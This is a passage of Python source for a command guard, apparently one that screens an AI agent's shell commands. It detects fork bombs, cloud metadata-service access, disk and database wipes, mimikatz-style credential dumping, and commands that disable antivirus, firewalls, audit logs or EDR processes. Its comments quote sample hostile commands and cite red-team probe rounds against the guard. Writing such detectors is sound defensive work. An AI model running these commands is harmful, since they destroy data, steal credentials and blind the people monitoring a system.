    scan is linear, and str's search slows down on text full of $)."""
    if len(text) < 4096 and "$0" not in text and "${0}" not in text:
        return False
    return _SELF_SPAWN.search(text) is not None


def fork_bomb(text: str) -> bool:
    """A function that calls itself in the background or through a pipe, any spacing or
    name (``:(){ :|:& };:``, ``bomb() { bomb | bomb & }; bomb``)."""
    if "|" not in text and "&" not in text:
        return False
    if "$" in text and _spawns_itself(text):
        return True
    if "{" not in text:
        return False
    for m in _FORK_DEF.finditer(text):
        name = m.group(1) or m.group(2)
        # (bash names the running function $FUNCNAME: f(){ $FUNCNAME|$FUNCNAME& }; f)
        body = text[m.end(): m.end() + 400]
        if "FUNCNAME" in body:
            body = _FUNCNAME.sub(lambda _m: name, body)
        end = body.find("}")
        if end >= 0:
            body = body[:end]
        squeezed = re.sub(r"\s+", "", body)
        if name in squeezed and ("|" in squeezed or "&" in squeezed):
            return True
    return False


# the short and DNS names of the metadata service, once a URL's host is decoded
_METADATA_NAMES = re.compile(r"//(?:[^/@\s]*@)?(?:metadata|instance-data|metadata\.google\.internal|"
                             r"instance-data\.ec2\.internal|metadata\.goog)\.?(?:[:/?#]|$)", re.I)
# sslip.io / nip.io names of an IPv6 address, "-" for ":" (fd00-ec2--254.sslip.io)
_DASHED_V6 = re2.compile(r"(?i)([0-9a-f-]*--[0-9a-f-]*|[0-9a-f]{1,4}(?:-[0-9a-f]{1,4}){7})\.(?:sslip\.io|nip\.io)\b")
_DASHED_HOSTS = ("sslip.io", "nip.io", "SSLIP.IO", "NIP.IO")
# curl's own URL globs: [0-9], [a-z:2], {a,b}
_CURL_GLOB = re.compile(r"\[([0-9]{1,3})-([0-9]{1,3})(?::\d+)?\]|\{([^{}\s]{0,64})\}")


def _curl_expansions(text: str, limit: int = 64) -> list[str]:
    """What curl makes of a URL with globs ([250-255], {a,b}), up to ``limit`` URLs."""
    out = [text]
    for _ in range(4):
        nxt: list[str] = []
        for t in out:
            m = _CURL_GLOB.search(t)
            if m is None:
                nxt.append(t)
                continue
            if m.group(3) is not None:
                choices = m.group(3).split(",")
            else:
                a, b = int(m.group(1)), int(m.group(2))
                choices = [str(n) for n in range(min(a, b), min(max(a, b), min(a, b) + limit) + 1)]
            nxt.extend(t[:m.start()] + c + t[m.end():] for c in choices)
            if len(nxt) > limit:
                return nxt[:limit]
        if nxt == out:
            break   # (round 36, coldtools36: no glob left, the next rounds change nothing)
        out = nxt
    return out


_HOST_BEFORE = frozenset("/@ \t\n\"'`")
# socat's address types and URL schemes written with a colon before the host
_ADDRESS_TYPE = re.compile(r"(?i)(?<![\w-])(?:tcp[46]?(?:-connect|-listen)?|udp[46]?(?:-connect|-sendto)?|ssl|openssl|"
                           r"socks4a?|socks5|proxy|https?|ftps?|wss?|gopher|dict|telnet|ldaps?|tftp|smb|rtsp|imaps?|pop3s?|smtps?)"
                           r"\Z")
# a long option whose value may be a host (--url, --proxy, --host, --connect-to, --server...)
_HOST_OPTION = re.compile(r"(?i)url|host|proxy|server|addr|connect|resolve|socks|dns|endpoint|target|remote|dest|peer|"
                          r"bind|interface|broker|bootstrap|ip\b|--to\b|--from\b|uri")
# what comes before a value in an expression, not before a host (ts > N, "id": N, id = N)
_VALUE_AFTER = frozenset("=<>:,([{+*%!")


def _lone_number_host(t: str, start: int, end: int) -> bool:
    """Whether the lone number at ``t[start:end]`` (no dot, not at the text's start) is
    where a host is written: after a user's ``@``, after ``//`` or a scheme's ``:/``, quoted, or a
    word of its own (curl's schemeless host). Not a path's segment (``/items/1684301000``)
    nor a value in an expression (``ts > 1684301000``, ``"id": 2852039170,``): probe round
    33, benign36."""
    c = t[start - 1]
    if c in "\"'`":
        # (probe round 34, residuals35) a quoted number is a host as a host's value ("host":
        # "N", host='N'), or where a network program or a socket API is in the text
        # (socket.connect(('N', 80)), {"command": "curl", "args": ["N"]}); a key's value
        # otherwise ({"run_id": "2852039166"}, ts = '1684301000') is a number
        j = start - 2
        while j >= 0 and t[j] in " \t":
            j -= 1
        if j >= 0 and t[j] in ":=":
            k = j - 1
            while k >= 0 and t[k] in " \t\"'":
                k -= 1
            e = k + 1
            while k >= 0 and (t[k].isalnum() or t[k] in "_-.$"):
                k -= 1
            # (a key's value: a host's key or not, whatever else the text holds)
            return _HOST_OPTION.search(t, k + 1, e) is not None
        return _net_context(t)
    if c == ":":
        # curl's --resolve H:P:N and --connect-to ::N:P, socat's TCP:N:P, a scheme's http:N;
        # not "ts":N, an object's {ts:N, ...} nor a key's session:N
        return start >= 2 and (t[start - 2].isdigit() or t[start - 2] == ":"
                                or _ADDRESS_TYPE.search(t, max(0, start - 16), start - 1) is not None) \
            and (end >= len(t) or t[end] in " \t\n\"'`:/;&|)")
    if c not in _HOST_BEFORE:
        return False
    if c == "@":
        # user@N, user:pass@N; not date's @N, a time (date -d @1684301000, --date=@N)
        return start >= 2 and t[start - 2] not in " \t\n\"'`=@"
    if c == "/":
        j = start - 1
        while j >= 0 and t[j] == "/":
            j -= 1
        return start - 1 - j >= 2 or (j >= 0 and t[j] == ":")
    if c in " \t\n":
        j = start - 1
        while j >= 0 and t[j] in " \t\n":
            j -= 1
        if j >= 0 and t[j] in _VALUE_AFTER:
            return False
        if end < len(t) and t[end] in ",}]":
            return False
        k = t.rfind(" ", 0, j + 1)
        k = max(k, t.rfind("\t", 0, j + 1), t.rfind("\n", 0, j + 1))
        prev = t[k + 1:j + 1]
        if prev.startswith("--") and "=" not in prev and _HOST_OPTION.search(prev) is None \
                and (end >= len(t) or t[end] not in ":/"):
            return False   # --since 1684301000, --offset N, --start-time N: a number
        if prev in ("-h", "-H", "-a", "-s", "-t", "-x", "-L", "-R", "-D", "-J", "-b") or (
                prev.startswith("--") and _HOST_OPTION.search(prev)) or (end < len(t) and t[end] in ":/"):
            return True   # (mysql -h N, ssh -J N, --proxy N, N:80, N/latest)
        # (probe round 34, residuals35) a word of its own is curl's schemeless host, nc's,
        # ping's: a host only where a network program or a socket API is in the text
        # (sleep 2852039170, kill N, seq 1 3232235777, sudo echo N, a SQL number are numbers)
        return _net_context(t)
    return True


# the paths of the cloud metadata and credential services (AWS and Alibaba, IMDSv2's token,
# GCP, Azure, Oracle, ECS's task credentials, DigitalOcean, OpenStack)
_CODED_NUMBER = re.compile(r"(?<![\w])(?:0x[0-9a-f]{1,8}|\d{1,12})(?![\w])", re.I)
_METADATA_PATH = re.compile(r"(?i)latest/+(?:meta-data|api/+token|user-data|dynamic)|computeMetadata/|"
                            r"metadata/+(?:instance|identity|v1)|opc/+v[12]/|v[1-4]/+credentials|"
                            r"openstack/+latest")


# a network program (at a command's start) or a socket/HTTP API: where a bare number may be
# the host it is given (curl 1684301000, nc 2852039170 80, socket.connect(('N', 80)))
_NET_CONTEXT = re.compile(
    r"(?i)(?:^|[\s;&|(`'\"/={\[,])(?:curl|wget|xh|https?|http[ps]?ie|nc|ncat|netcat|socat|telnet|ssh|scp|sftp|ftp|"
    r"tftp|lftp|ping6?|fping|hping3|arping|traceroute6?|tracepath|mtr|nmap|masscan|dig|host|nslookup|drill|whois|"
    r"openssl|s_client|rsync|aria2c|axel|lynx|w3m|links|elinks|grpcurl|websocat|wscat|mosh|rdesktop|xfreerdp|"
    r"vncviewer|proxychains4?|torsocks|tsocks|chisel|gost|iwr|irm|invoke-webrequest|invoke-restmethod|"
    r"test-netconnection|tnc|fetch|requests?|urlopen|urllib\w*|httpx|aiohttp|axios|got|superagent|undici|"
    r"socket|create_connection|connect|getaddrinfo|gethostbyname|net\.(?:connect|createconnection|dial)|dial\w*|"
    r"net::http|tcpsocket|io::socket|lwp|webclient|httpclient|okhttp|resttemplate|open-uri|guzzle|"
    r"file_get_contents|fsockopen|stream_socket_client|curl_init|/dev/+(?:tcp|udp))(?![\w-])")


def _net_context(t: str) -> bool:
    return _NET_CONTEXT.search(t[:200_000]) is not None


# (round 36, coldtools36) one linear pass that every hit of the three loops of
# metadata_address below needs (ASCII text): a number with a dot (a.b, a.b.c, a.b.c.d), or
# one whole number of 10 characters or more (the smallest metadata address, 100.100.100.200,
# is 1684301000: 10 decimal digits, 0x646464c8, 012431062310), _METADATA_PATH itself, or
# _V6 without its lookbehind
_METADATA_NUMBER_ANY = re2.compile(
    r"(?i)(?:0x[0-9a-f]+|[0-9]+)\.(?:0x[0-9a-f]+|[0-9]+)|0x[0-9a-f]{8,}|[0-9]{10,}|"
    r"[0-9a-f]{0,4}:[0-9a-f:.]*:[0-9a-f:.]+|" + _METADATA_PATH.pattern.removeprefix("(?i)"))


def metadata_address(text: str, *, hinted: bool = False) -> bool:
    if not hinted and not _METADATA_HINT.search(text):
        return False
    candidates = [text]
    if "%" in text:
        candidates.append(unquote(text))
    if "[" in text or "{" in text:
        candidates.extend(c for t in list(candidates) for c in _curl_expansions(t) if c != t)
    for t in candidates:
        if "169.254.169.254" in t:
            return True
        if t is not text and _METADATA_NAMES.search(t):
            return True   # http://%6detadata/, http://instance-dat%61./
        # (sslip.io, nip.io in any case hold "p.i" lower-cased: that test alone is theirs)
        for m in (_DASHED_V6.finditer(t) if "p.i" in t.lower() else ()):
            try:
                addr = ipaddress.IPv6Address(m.group(1).replace("-", ":"))
            except ValueError:
                continue
            if addr in _METADATA_V6 or (addr.ipv4_mapped is not None and addr.ipv4_mapped.packed in _METADATA_V4_ALL):
                return True
        if t.isascii() and not re2_found(_METADATA_NUMBER_ANY, t):
            # (round 36, coldtools36: cost) no number the loops below can read as a metadata
            # address (a dotted one, or one of 10 characters or more), no metadata path, no
            # IPv6-shaped run: none of them can fire (every JSON argument text was hinted by its {)
            continue
        for m in _NUMERIC_HOST.finditer(t):
            if m.start() and "." not in m.group(0) and not _lone_number_host(t, m.start(), m.end()):
                # (a lone number is a host after // or @, or as a word of its own, curl's
                # schemeless host; a query's, an option's or a call's number is a number:
                # ?since=1684301000 and fromtimestamp(1684301000) are times)
                continue
            try:
                if socket.inet_aton(m.group(0)) in _METADATA_V4_ALL:
                    return True
            except (OSError, ValueError):
                continue
        # (probe round 34, redteam34b) a number joined into a URL by code ('http://%d/' % N,
        # 'http://'+N+'/', "http://".N."/", {host: N}, PeerAddr=>N) is a host where the text
        # also asks a metadata service's path over the network (/latest/meta-data/)
        coded = _METADATA_PATH.search(t) is not None and _net_context(t)
        for m in _CODED_NUMBER.finditer(t) if coded else ():
            try:
                if socket.inet_aton(m.group(0)) in _METADATA_V4_ALL:
                    return True
            except (OSError, ValueError):
                continue
        for m in _V6.finditer(t):
            try:
                addr = ipaddress.IPv6Address(m.group(0).strip("[]."))
            except ValueError:
                continue
            if addr in _METADATA_V6:
                return True
            mapped = addr.ipv4_mapped or addr.sixtofour
            if mapped is not None and mapped.packed in _METADATA_V4_ALL:
                return True
            if addr.packed[-4:] in _METADATA_V4_ALL and addr.packed[:10] == b"\x00" * 10:
                return True   # IPv4-compatible ::169.254.169.254
    return False


def _has_recursive(argv: tuple[str, ...]) -> bool:
    for a in argv[1:]:
        if a == "--recursive":
            return True
        if a.startswith("-") and not a.startswith("--") and ("r" in a[1:].lower()):
            return True
    return False


def _root_or_home(arg: str, home: str | None) -> bool:
    a = arg.strip()
    if a in ("~", "~/", "~/*", "$HOME", "${HOME}", "$HOME/", "${HOME}/", "$HOME/*", "${HOME}/*"):
        return True
    if a.startswith("/"):
        p = posixpath.normpath("/" + a.lstrip("/"))
        if p in ("/", "/*") or (p.endswith("/*") and posixpath.normpath(p[:-2]) == "/"):
            return True
        # (case folded: ${HOME^^} is the home on macOS' file system)
        if home and p.rstrip("*").rstrip("/").casefold() == home.rstrip("/").casefold():
            return True
    return False


def _unknown_device_name(arg: str) -> bool:
    """dd's of= whose file is only known at run time and may be a disk: the whole name an
    expansion (of=$DEV, of="$(ls /dev/sd* | head -1)") or a name under /dev (of=/dev/$d).
    A known file name below an unknown directory (of=$TMPDIR/disk.img), a name with an
    extension (of=${NAME}.img) or one in a named directory (of=out/$NAME) is a file."""
    value = arg[3:]
    if value[:1] not in ("$", "`") and "/dev/" not in value:
        return False
    end = value.rsplit("/", 1)[-1]
    if "/" in value and not any(c in end for c in "$`)"):
        return False
    return re.search(r"\.[A-Za-z][A-Za-z0-9]*$", value) is None


_CF_TRAITS: dict[str, tuple[bool, str, bool, bool]] = {}
_CF_TRAITS_LIMIT = 4096


# (probe round 48, redteam48) DROP DATABASE in the database's own admin programs' words, as
# psql -c 'DROP DATABASE x' and redis-cli FLUSHALL are: dropdb NAME (PostgreSQL), mysqladmin
# drop NAME (MySQL, MariaDB), etcdctl del "" --prefix / --from-key "" (every key)
# (probe round 49, redteam49) and pg_dropcluster VERSION NAME (the cluster, every database in
# it), consul kv delete -recurse with no prefix, "" or "/" (every key)
_DB_ADMINS = frozenset({"dropdb", "mysqladmin", "mariadb-admin", "etcdctl", "pg_dropcluster", "consul"})
_DB_ADMIN_INFO = frozenset({"--help", "-?", "--version", "-V"})


def _db_admin_wipe(low: str, args: list[str]) -> bool:
    """Does the admin program's call drop a database or empty the store? (_DB_ADMINS)"""
    if low == "dropdb":
        return any(not a.startswith("-") for a in args) and not any(a in _DB_ADMIN_INFO for a in args)
    words = [a for a in args if not a.startswith("-")]
    if low == "pg_dropcluster":
        return len(words) >= 2 and not any(a in _DB_ADMIN_INFO or a in ("-h", "--help") for a in args)
    if low == "consul":
        return words[:2] == ["kv", "delete"] and len(words) <= 3 and all(w in ("", "/") for w in words[2:]) and any(
            a.lstrip("-") in ("recurse", "recurse=true", "recurse=1") for a in args)
    if low == "etcdctl":
        return "del" in words[:3] and ("" in words or "--from-key" in args and "\0" in words) and any(
            a in ("--prefix", "--from-key", "--prefix=true", "--from-key=true") for a in args)
    return any(w.lower() == "drop" for w in words)


def _cf_traits(name: str) -> tuple[bool, str, bool, bool]:
    """(round 40, cold40: cost) command_findings' tests of a program's name alone, answered
    once per name: (whether any of its named checks may apply, the name in lower case
    without .exe, whether a mimikatz command among its words counts, a history wiper)."""
    t = _CF_TRAITS.get(name)
    if t is None:
        low = name.lower()
        if low.endswith(".exe"):
            low = low[:-4]
        named = (name in ("rm", "chmod", "chown", "chgrp", "dd", "mke2fs", "mkswap", "wipefs", "shred")
                 or name.startswith("mkfs") or name in _HTTP_CLIENTS
                 or low in _CONTROL_PROGRAMS or low in _SECURITY_UNITS
                 or low in _DUMP_PROGRAMS or low.startswith(("python", "pwsh", "powershell")) or ":" in low
                 or low.endswith((".py", ".ps1", ".sh")) or low in _DB_ADMINS)
        t = (named, low, low not in _TEXT_INERT and low not in _TEXT_TOOLS, low in _HISTORY_WIPERS)
        if len(name) <= 256:   # (a long name is not kept)
            if len(_CF_TRAITS) >= _CF_TRAITS_LIMIT:
                _CF_TRAITS.clear()
            _CF_TRAITS[name] = t
    return t


def command_findings(cmd: SimpleCommand, *, home: str | None) -> tuple[str, str] | None:
    """Structural destructive checks on one canonical simple command."""
    argv = cmd.argv
    if not argv:
        return None
    name = argv[0]
    named, low, mimikatz_counts, wiper = _cf_traits(name)
    if named:   # (a name none of these checks is about skips them all)
        if name == "rm" and _has_recursive(argv):
            if any(_root_or_home(a, home) for a in argv[1:] if not a.startswith("-")):
                return "rm_recursive_root", "recursive delete of / or home"
        if name == "chmod":
            # (world-writable: 777, or rwx given to all or to others; u+rwx and g+rwx are not)
            if any(re.fullmatch(r"0?777|(?:[ugo]*a[ugoa]*|[ug]*o[ugo]*)\+rwx", a) for a in argv[1:]):
                return "chmod_777", "world-writable permissions (chmod 777)"
        if name in ("chmod", "chown", "chgrp") and _has_recursive(argv):
            if any(_root_or_home(a, home) for a in argv[2:] if not a.startswith("-")):
                return "recursive_root_permissions", f"recursive {name} on / or home"
        if name == "dd":
            for i, a in enumerate(argv[1:], start=1):
                if a.startswith("of=/dev/") and a[8:] not in ("null", "zero", "stdout", "stderr", "tty"):
                    return "dd_device", "dd writing to a device"
                if a.startswith("of=") and i in cmd.dynamic_args and _unknown_device_name(a):
                    return "dd_device", "dd writing to a file only known at run time (it may be a device)"
        if (name.startswith("mkfs") or name in ("mke2fs", "mkswap", "wipefs")) and \
                tuple(argv[1:]) not in (("--help",), ("-h",), ("--version",), ("-V",)):
            return "mkfs", "filesystem formatting (mkfs)"
        if name in ("shred",) and any(a.startswith("/dev/") for a in argv[1:]):
            return "dd_device", "overwriting a device"
        if low in _DB_ADMINS and _db_admin_wipe(low, argv[1:]):
            return "db_destructive", "destructive database command (drop, flush)"
        if name in _HTTP_CLIENTS and len(argv) > 1:
            what = _http_erases_all(name, argv[1:])
            if what:
                return "db_destructive", what
        if low in _CONTROL_PROGRAMS or low in _SECURITY_UNITS:
            what = security_control_off(low, [a.lower() for a in argv[1:]], argv[1:])
            if what:
                return "security_control_off", what
        if low in _DUMP_PROGRAMS or low.startswith(("python", "pwsh", "powershell")) or ":" in low or \
                low.endswith((".py", ".ps1", ".sh")):
            what = credential_dump(low, argv[1:])
            if what:
                return "credential_dump", what
    if mimikatz_counts and any("::" in a and _MIMIKATZ_COMMAND.search(a) for a in argv[1:]):
        # (a renamed mimikatz is still told sekurlsa::logonpasswords, lsadump::sam...)
        return "credential_dump", "a credential dumping tool's command (mimikatz' sekurlsa::, lsadump::...)"
    if wiper or cmd.redirects:
        what = history_wiped(low, argv, cmd.redirects)
        if what:
            return "security_control_off", what
    return None


# (probe round 33, residuals34) a security control switched off: the machine's antivirus, its
# firewall, SELinux/AppArmor, the audit trail, macOS' Gatekeeper/SIP/quarantine, the shell's
# history. A guard is one of these controls; an agent turning the others off is what an
# intruder does first, so it is denied in every mode (bypass included), as rm -rf ~ is. Reading
# their state (ufw status, getenforce, iptables -L, auditctl -l, spctl --status) is not.
_SECURITY_UNITS = frozenset({
    "firewalld", "ufw", "nftables", "iptables", "ip6tables", "netfilter-persistent", "apparmor", "auditd",
    "fail2ban", "clamav-daemon", "clamd", "clamav-freshclam", "falcon-sensor", "osqueryd", "wazuh-agent",
    "ossec", "auditbeat", "rsyslog", "syslog", "syslog-ng", "systemd-journald", "sysmon", "crowdstrike",
    "sentinelone", "mdatp", "aide", "selinux", "auditd.service",
    # Windows' services: Defender and its parts, the firewall (mpssvc, bfe), the event log, Sysmon
    "windefend", "wdnissvc", "sense", "wscsvc", "mpssvc", "bfe", "eventlog", "sysmon64", "securityhealthservice",
    "wdfilter", "wdboot", "wdnisdrv", "mpsdrv", "windows defender firewall", "windows firewall",
    "microsoft defender antivirus service", "windows defender antivirus service", "windows event log",
    "security center", "windows defender advanced threat protection service", "sysmon64.exe"})
_UNIT_STOPS = frozenset({"stop", "disable", "mask", "kill"})
_CONTROL_PROGRAMS = frozenset({
    "set-mppreference", "add-mppreference", "mpcmdrun", "uninstall-windowsfeature", "remove-windowsfeature",
    "disable-windowsoptionalfeature", "systemctl", "service", "sc", "net", "stop-service", "set-service",
    "chkconfig", "update-rc.d", "rc-service", "rc-update", "invoke-rc.d", "ufw", "iptables", "ip6tables", "iptables-legacy",
    "ip6tables-legacy", "iptables-nft", "ip6tables-nft", "nft", "netsh", "firewall-cmd", "set-netfirewallprofile", "pfctl",
    "disable-netfirewallprofile", "socketfilterfw", "setenforce", "aa-teardown", "auditctl", "wevtutil", "clear-eventlog", "remove-eventlog",
    "auditpol", "spctl", "csrutil", "xattr", "defaults", "launchctl", "limit-eventlog",
    "pkill", "killall", "taskkill", "tskill", "kill"})
# (probe round 36, windows36) the processes of those controls, killed by name (taskkill /im
# MsMpEng.exe, Stop-Process -Name MsMpEng, pkill auditd): the control is off as when its
# service is stopped
_SECURITY_PROCESSES = frozenset({
    "msmpeng", "nissrv", "mssense", "sensecncproxy", "securityhealthservice", "securityhealthsystray",
    "mpdefendercoreservice", "smartscreen", "sysmon", "sysmon64", "auditd", "falcon-sensor", "falcond",
    "csfalconservice", "csfalconcontainer", "sentinelagent", "wazuh-agentd", "ossec-agentd", "osqueryd", "clamd",
    "wdavdaemon", "auditbeat", "rsyslogd", "syslog-ng", "systemd-journald", "mdatp", "aide",
    # (probe round 37, pwsh37) other EDR and antivirus agents' processes: SentinelOne, Cortex XDR,
    # Cylance, Trellix/FireEye, Elastic, Tanium, Sophos, ESET, McAfee, Symantec, Trend Micro,
    # Bitdefender, Malwarebytes, Carbon Black
    "sentinelservicehost", "cyserver", "cyveraservice", "cylancesvc", "xagt", "elastic-agent", "elastic-endpoint",
    "taniumclient", "savservice", "sophoshealth", "sophosfilescanner", "ekrn", "mcshield", "mfemms", "masvc",
    "ccsvchst", "ntrtscan", "tmbmsrv", "vsserv", "bdagent", "epsecurityservice", "mbamservice", "cbdefense",
    "repmgr"})
# (probe round 52, pwsh52) the processes the operating system cannot run without (taskkill /im
# csrss.exe /f, Stop-Process -Name wininit, pkill init): killed by name, the machine goes down
# (a blue screen, a kernel panic) as with kill -9 1
_CRITICAL_PROCESSES = frozenset({"csrss", "wininit", "smss", "winlogon", "lsass", "services", "lsaiso", "system",
                                 "init", "systemd", "launchd", "kernel_task"})
# the programs of the two tables whose names are no everyday words: a bare argv starting with
# one is read as a command line ({"argv": ["setenforce", "0"]}, evaluate._looks_like_program)
SECURITY_PROGRAMS = frozenset({
    "ufw", "iptables", "ip6tables", "iptables-legacy", "ip6tables-legacy", "iptables-nft", "ip6tables-nft", "nft",
    "firewall-cmd", "netsh", "pfctl", "socketfilterfw", "setenforce", "aa-teardown", "auditctl", "wevtutil",
    "auditpol", "spctl", "csrutil", "systemctl", "sysctl", "mpcmdrun", "set-mppreference", "add-mppreference",
    "mimikatz", "pypykatz", "lazagne", "secretsdump.py", "impacket-secretsdump", "unshadow", "procdump",
    "procdump64", "rundll32", "ntdsutil", "esentutl", "gcore", "lsassy", "nanodump"})
_OFF_VALUES = frozenset({"$false", "false", "0", "disabled", "off", "no", "auditmode"})
_ALLOW_ACTIONS = frozenset({"allow", "6", "noaction", "9"})


def _unit(u: str) -> str:
    u = u.rsplit("/", 1)[-1]
    return u[:-8] if u.endswith(".service") else u


_NFT_SEPARATORS = re.compile(r"[;\n\r]")


def security_control_off(name: str, args: list[str], raw: Sequence[str] = ()) -> str | None:
    """What a command turns off, or None (args in lower case, raw as written)."""
    ops = [a for a in args if not a.startswith("-")]
    if _unit(name) in _SECURITY_UNITS and ops[:1] in (["stop"], ["force-stop"]) and name not in ("sc", "net"):
        return "a security service stopped (its init script)"   # (/etc/init.d/ufw stop, ufw has no stop)
    if name in ("set-mppreference", "add-mppreference"):
        for k, a in enumerate(args):
            key, _c, val = a.partition(":")
            val = val or (args[k + 1] if k + 1 < len(args) and not args[k + 1].startswith("-") else "$true")
            if key.startswith("-exclusion"):
                return "Microsoft Defender told to skip files, folders or programs (an exclusion)"
            if key.startswith("-disable") and val not in _OFF_VALUES:
                return "Microsoft Defender protection turned off"
            if key.startswith("-enable") and val in _OFF_VALUES:
                return "Microsoft Defender protection turned off"
            if (key.endswith("defaultaction") or key.endswith("defaultaction_actions")) and val in _ALLOW_ACTIONS:
                return "Microsoft Defender told to allow what it detects"
            if key in ("-mapsreporting", "-submitsamplesconsent", "-puaprotection") and val in (
                    "0", "disabled", "2", "neversend", "$false"):
                return "Microsoft Defender's cloud protection or sample submission turned off"
        return None
    if name in ("pkill", "killall", "taskkill", "tskill", "kill"):
        names = [a.rsplit("\\", 1)[-1].removesuffix(".exe") for a in args if not a.startswith(("-", "/"))]
        if any(n in _SECURITY_PROCESSES or n in _SECURITY_UNITS or (
                # (a wildcard that takes one in: Stop-Process -Name MsMp*, taskkill /im MsMp*; round 37)
                ("*" in n or "?" in n) and any(fnmatch.fnmatchcase(p, n) for p in _SECURITY_PROCESSES)) for n in names):
            return "a security program's process (antivirus, EDR, audit, logging) killed"
        if any(n in _CRITICAL_PROCESSES for n in names):
            return "a process the operating system cannot run without killed: the machine goes down"
        return None
    if name == "mpcmdrun":
        return "Microsoft Defender's signatures removed" if "-removedefinitions" in args else None
    if name in ("uninstall-windowsfeature", "remove-windowsfeature", "disable-windowsoptionalfeature"):
        return "Microsoft Defender removed" if any("defender" in a for a in args) else None
    if name == "systemctl":
        verb = next((k for k, o in enumerate(ops) if o in _UNIT_STOPS or o in ("start", "status", "restart", "show",
                                                                            "enable", "is-active", "reload")), None)
        if verb is not None and ops[verb] in _UNIT_STOPS and any(_unit(u) in _SECURITY_UNITS for u in ops[verb + 1:]):
            return "a security service (firewall, audit, AppArmor, antivirus, logging) stopped or disabled"
        return None
    if name in ("service", "invoke-rc.d") and len(ops) >= 2 and _unit(ops[0]) in _SECURITY_UNITS and ops[1] == "stop":
        return "a security service (firewall, audit, AppArmor, antivirus, logging) stopped"
    if name in ("chkconfig", "update-rc.d", "rc-update", "rc-service") and any(
            _unit(o) in _SECURITY_UNITS for o in ops) and any(o in ("off", "disable", "remove", "del", "stop")
                                                              for o in ops):
        return "a security service (firewall, audit, AppArmor, antivirus, logging) stopped or disabled"
    if name in ("sc", "net") and len(ops) >= 2 and _unit(ops[1].strip('"')) in _SECURITY_UNITS:
        if ops[0] in ("stop", "delete", "pause") or (ops[0] == "config" and any(
                "disabled" in a for a in args[2:])):
            return "a Windows security service (Defender, firewall, event log) stopped or disabled"
        return None
    if name in ("stop-service", "set-service") and any(_unit(o.strip("'\"")) in _SECURITY_UNITS for o in args):
        if name == "stop-service" or any(a in ("disabled", "stopped") for a in args):
            return "a Windows security service (Defender, firewall, event log) stopped or disabled"
        return None
    if name == "ufw":
        return "the firewall (ufw) turned off" if ops[:1] in (["disable"], ["reset"]) else None
    if name.startswith(("iptables", "ip6tables")):
        table = "filter"
        for k, a in enumerate(args):
            if a in ("-t", "--table") and k + 1 < len(args):
                table = args[k + 1]
            elif a.startswith("--table="):
                table = a[8:]
        if table != "filter":
            return None
        raw = list(raw) or args
        for k, a in enumerate(raw):
            nxt = [x.lower() for x in raw[k + 1: k + 3]]
            if a.startswith("-F") and len(a) > 2 and not a.startswith("--"):
                nxt, a = [a[2:].lower()] + nxt, "-F"   # (-FINPUT)
            if a.startswith("-P") and len(a) > 2 and not a.startswith("--"):
                nxt, a = [a[2:].lower()] + nxt, "-P"   # (-PINPUT ACCEPT)
            if a in ("-F", "--flush") and (not nxt or nxt[0].startswith("-") or nxt[0] in ("input", "forward", "output")):
                return "the firewall's rules flushed (iptables -F)"
            if a in ("-P", "--policy") and len(nxt) >= 2 and nxt[1] == "accept":
                return "the firewall's default policy set to ACCEPT"
        return None
    if name == "firewall-cmd":
        # (firewalld's trusted zone accepts everything: the firewall off by another name)
        if "--set-default-zone=trusted" in args or ("--set-default-zone" in args and "trusted" in args):
            return "the firewall told to accept everything (firewalld's trusted zone)"
        return None
    if name == "nft":
        # (probe round 34, redteam34b, differential7) nft joins its words into one text of
        # commands separated by ';' or newlines: nft list ruleset ';' flush ruleset flushes
        return "the firewall's rules flushed (nft flush ruleset)" if any(
            seg.split()[:2] == ["flush", "ruleset"] for seg in _NFT_SEPARATORS.split(" ".join(ops).lower())) else None
    if name == "netsh":
        j = " ".join(args)
        if re.search(r"\badvfirewall\s+set\s+\w*profiles?\s+state\s+off\b|\bfirewall\s+set\s+opmode\s+"
                     r"(?:mode=)?disable", j):
            return "the Windows firewall turned off"
        return None
    if name == "set-netfirewallprofile":
        if any(a.lower() == "allow" for a in args):
            # ((probe round 49, pwsh49) -DefaultInboundAction Allow: every connection accepted)
            return "the Windows firewall told to accept every connection"
        return "the Windows firewall turned off" if any(a in _OFF_VALUES for a in args) else None
    if name == "disable-netfirewallprofile":
        return "the Windows firewall turned off"   # ((probe round 49, pwsh49) as Set-... -Enabled False)
    if name == "pfctl":
        return "the packet filter (pf) turned off" if "-d" in args else None
    if name == "socketfilterfw":
        return "the macOS application firewall turned off" if "--setglobalstate" in args and "off" in args else None
    if name == "setenforce":
        return "SELinux set to permissive" if ops[:1] in (["0"], ["permissive"]) else None
    if name == "aa-teardown":
        return "every AppArmor profile unloaded"
    if name == "auditctl":
        raw = list(raw) or args
        for k, a in enumerate(raw):
            if a == "-D":
                return "every audit rule deleted"
            if a in ("-e", "-e0") and (a == "-e0" or raw[k + 1: k + 2] == ["0"]):
                return "auditing turned off"
        return None
    if name == "wevtutil":
        if ops[:1] in (["cl"], ["clear-log"]):
            return "an event log cleared"
        if ops[:1] in (["sl"], ["set-log"]) and any(a in ("/e:false", "/enabled:false", "-e:false") for a in args):
            return "an event log turned off"
        return None
    if name in ("clear-eventlog", "remove-eventlog"):
        return "an event log cleared"
    if name == "auditpol":
        if any(a in ("/clear", "/remove", "-clear", "-remove") for a in args) or any(
                a.startswith(("/success:disable", "/failure:disable")) for a in args):
            return "the audit policy cleared"
        return None
    if name == "spctl":
        if any(a in ("--master-disable", "--global-disable") for a in args):
            return "Gatekeeper turned off"
        return None
    if name == "csrutil":
        return "System Integrity Protection turned off" if "disable" in ops else None
    if name == "defaults":
        j = " ".join(args)
        if "lsquarantine" in j and any(a in ("false", "no", "0") for a in args) and "write" in ops:
            return "macOS' download quarantine turned off"
        if "com.apple.alf" in j and "globalstate" in j and "write" in ops and args[-1:] == ["0"]:
            return "the macOS application firewall turned off"
        return None
    if name == "launchctl":
        if ops[:1] and ops[0] in ("unload", "bootout", "disable", "remove") and any(
                "com.apple.alf" in o or "com.apple.mrt" in o or "xprotect" in o for o in ops[1:]):
            return "a macOS security agent (firewall, XProtect, MRT) unloaded"
        return None
    if name == "xattr":
        # (the quarantine mark taken off what was downloaded: Gatekeeper then never checks it)
        if "com.apple.quarantine" in args or any(a.startswith("-") and "c" in a for a in args):
            removes = any(a.startswith("-") and ("d" in a or "c" in a) for a in args)
            tree = any(a.startswith("-") and "r" in a for a in args)
            places = [o for o in ops if o != "com.apple.quarantine"]
            if removes and (tree and any(o.startswith(("/", "~", "$", "..")) for o in places)
                            or any("downloads" in o or o.startswith(("/applications", "/volumes")) for o in places)):
                return "macOS' download quarantine removed"
        return None
    return None


